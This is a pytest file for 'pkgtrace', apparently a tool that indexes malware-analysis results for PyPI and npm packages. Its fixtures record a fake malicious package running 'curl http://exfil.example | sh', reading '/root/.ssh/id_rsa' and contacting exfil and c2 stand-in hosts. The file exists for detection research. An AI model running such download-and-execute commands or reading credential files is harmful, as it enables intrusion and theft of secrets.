"""Documents → dataset rows, on SQLite and on a real PostgreSQL; queries a researcher would run."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
import sqlalchemy as sa

from pkgtrace.model import Ecosystem, Package
from pkgtrace.results.index import DocumentError, load_documents, open_index
from pkgtrace.results.index import models as m

sys.path.insert(0, str(Path(__file__).resolve().parent))
from fixture_docs import all_docs, dynamic_doc, report_doc  # noqa: E402

EVIL = Package(Ecosystem.PYPI, "evil-pkg", "1.0.0")


def count(index, table, *where):
    with index.engine.connect() as c:
        return c.execute(sa.select(sa.func.count()).select_from(table).where(*where)).scalar()


def test_load_dynamic_static_report(index_url):
    idx = open_index(index_url)
    aid = load_documents(idx, EVIL, all_docs(), location="results/pypi/evil-pkg/1.0.0", duration_s=12.5)
    with idx.engine.connect() as c:
        a = c.execute(sa.select(m.analyses).where(m.analyses.c.id == aid)).one()
        assert (a.label, a.score, a.kinds, a.artifact_sha256) == ("malicious", 0.97, "dynamic,report,static", "ef" * 32)
        files = {(r.phase, r.path): (r.read, r.write, r.delete) for r in c.execute(sa.select(m.files))}
        assert files == {("install", "/root/.ssh/id_rsa"): (True, False, False),
                         ("install", "/tmp/payload.sh"): (False, True, True)}
        s = c.execute(sa.select(m.sockets)).one()
        assert (s.address, s.port, s.hostnames) == ("203.0.113.7", 443, "exfil.example,cdn.example")
        cmds = {r.command_line: json.loads(r.command) for r in c.execute(sa.select(m.commands))}
        assert cmds["sh -c curl http://exfil.example | sh"] == ["sh", "-c", "curl http://exfil.example | sh"]
        dns = sorted((r.phase, r.hostname, r.types) for r in c.execute(sa.select(m.dns)))
        assert dns == [("execute", "c2.example", "TXT"), ("install", "exfil.example", "A,AAAA")]
        phases = dict(c.execute(sa.select(m.phases.c.phase, m.phases.c.status)).all())
        assert phases == {"install": "completed", "import": "completed", "execute": "error_timeout"}
        rules = sorted(c.execute(sa.select(m.findings.c.rule)).scalars())
        assert rules == ["dynamic.bait_read", "static.curl_pipe_sh"]
        kinds = sorted(c.execute(sa.select(m.static_indicators.c.kind, m.static_indicators.c.value)).all())
        assert ("url", "http://exfil.example/x") in kinds and ("ip", "203.0.113.7") in kinds
        assert ("suspicious_identifier", "_0xabc") in kinds
        assert count(idx, m.static_files) == 2
        rel = c.execute(sa.select(m.releases)).one()
        assert rel.state == "done"


def test_reload_replaces_exactly_once(index_url):
    idx = open_index(index_url)
    load_documents(idx, EVIL, all_docs())
    docs = all_docs()
    docs["dynamic"]["Analysis"]["install"]["Files"] = []
    docs["report"]["verdict"]["label"] = "benign"
    load_documents(idx, EVIL, docs)
    assert count(idx, m.analyses) == 1
    assert count(idx, m.files) == 0
    assert count(idx, m.findings) == 2
    with idx.engine.connect() as c:
        assert c.execute(sa.select(m.analyses.c.label)).scalar() == "benign"


def test_query_behaviour_across_dataset(index_url):
    """Which releases contacted exfil.example during install? (a join a researcher writes)"""
    idx = open_index(index_url)
    for i in range(5):
        p = Package(Ecosystem.NPM if i % 2 else Ecosystem.PYPI, f"pkg{i}", "1.0")
        docs = {"dynamic": dynamic_doc(p.name, "1.0", p.ecosystem.value), "report": report_doc(p.name, "1.0")}
        if i >= 3:
            docs["dynamic"]["Analysis"]["install"]["DNS"] = []
        load_documents(idx, p, docs)
    q = (sa.select(m.analyses.c.ecosystem, m.analyses.c.name).join(m.dns, m.dns.c.analysis_id == m.analyses.c.id)
         .where(m.dns.c.hostname == "exfil.example", m.dns.c.phase == "install").order_by(m.analyses.c.name))
    with idx.engine.connect() as c:
        assert c.execute(q).all() == [("pypi", "pkg0"), ("npm", "pkg1"), ("pypi", "pkg2")]


def test_bad_documents_are_rejected_whole(index_url):
    idx = open_index(index_url)
    with pytest.raises(DocumentError):
        load_documents(idx, EVIL, {"dynamic": {"Package": {}, "Analysis": "nope"}, "report": report_doc()})
    assert count(idx, m.analyses) == 0


def test_feed_cursor_and_batch_are_one_transaction(index_url):
    from pkgtrace.feeds import Release
    idx = open_index(index_url)
    rels = [Release(Package(Ecosystem.NPM, "a", "1"), 100.0), Release(Package(Ecosystem.NPM, "a", "1"), 100.0),
            Release(Package(Ecosystem.NPM, "b", "2"), 200.0)]
    assert idx.record_feed_batch("npm", "npm", rels, "42") == 2
    assert idx.record_feed_batch("npm", "npm", rels[:1], "43") == 0
    st = idx.feed_states()[0]
    assert (st["cursor"], st["releases_total"], st["last_release_at"]) == ("43", 2, 200.0)
    idx.record_feed_error("npm", "npm", "HTTP 500")
    st = idx.feed_states()[0]
    assert (st["cursor"], st["errors"], st["last_error"]) == ("43", 1, "HTTP 500")


def test_request_priority_and_force(index_url):
    idx = open_index(index_url)
    p = Package(Ecosystem.PYPI, "x", "1")
    assert idx.request(p, source="feed", priority=0) == "new"
    assert idx.request(p, priority=100) == "requeued"  # raised in priority while waiting
    rows = idx.claim_new()
    assert [(r.package, r.priority) for r in rows] == [(p, 100)]
    assert idx.request(p) == "exists"  # on its way
    load_documents(idx, p, {"report": report_doc("x", "1")})
    assert idx.request(p) == "exists"
    assert idx.request(p, force=True) == "requeued"
    assert idx.claim_new()[0].force is True


def test_an_index_from_before_finding_hashes_upgrades_in_place(index_url, tmp_path):
    """Opening an index an earlier pkgtrace made (no findings.hash) adds the column and loses
    nothing it held; loading the releases again (`export reindex`) fills the hashes."""
    from pkgtrace.pipeline.loader import reindex
    from pkgtrace.results.stores.local import LocalStore
    docs = all_docs()
    docs["report"]["verdict"]["findings"][1]["hash"] = "cd" * 32
    idx = open_index(index_url)
    load_documents(idx, EVIL, docs)
    with idx.engine.begin() as c:  # the findings table as the earlier version made it
        c.execute(sa.text("ALTER TABLE findings DROP COLUMN hash"))

    def rows() -> dict:
        with idx.engine.connect() as c:
            return {t.name: sorted((tuple(sorted((k, str(v)) for k, v in r._mapping.items() if k != "hash"))
                                    for r in c.execute(sa.select(*(x for x in t.c if x.name != "hash")))))
                    for t in m.metadata.sorted_tables}

    before = rows()
    assert before["findings"] and before["dns"] and before["analyses"]
    idx.close()
    idx = open_index(index_url)
    assert rows() == before

    def hashes() -> dict:
        with idx.engine.connect() as c:
            return dict(c.execute(sa.select(m.findings.c.rule, m.findings.c.hash)).all())

    assert hashes() == {"dynamic.bait_read": None, "static.curl_pipe_sh": None}
    store = LocalStore(tmp_path / "results")
    store.put(EVIL, docs)
    assert reindex(store, idx) == {"loaded": 1, "failed": 0}
    assert hashes() == {"dynamic.bait_read": None, "static.curl_pipe_sh": "cd" * 32}
